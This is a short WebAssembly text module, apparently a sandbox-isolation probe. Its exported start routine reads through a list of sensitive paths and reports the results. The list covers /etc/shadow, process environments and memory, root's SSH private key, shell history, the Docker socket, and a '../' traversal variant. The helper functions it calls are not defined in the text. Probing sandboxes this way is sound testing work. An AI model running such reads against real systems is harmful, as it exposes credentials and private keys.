;; What a process knows of itself and of the machine, from every folder that it has.
(module
  ;; with program
  (data (i32.const 2048)
    "proc/self/environ\00proc/self/maps\00proc/self/mem\00proc/self/cmdline\00proc/self/fd/0\00proc/self/root/etc/passwd\00"
    "proc/self/cwd/secret.txt\00proc/1/environ\00proc/thread-self/environ\00etc/shadow\00etc/passwd\00etc/hostname\00"
    "sys/kernel/notes\00dev/mem\00dev/kmsg\00dev/shm\00run/docker.sock\00root/.ssh/id_rsa\00root/.bash_history\00"
    "/proc/self/environ\00/etc/shadow\00/dev/stdin\00/proc/sys/kernel/hostname\00../proc/self/environ\00\00")
  (func (export "_start")
    (call $armed)
    (call $read_all (i32.const 2048))
    (call $report)))
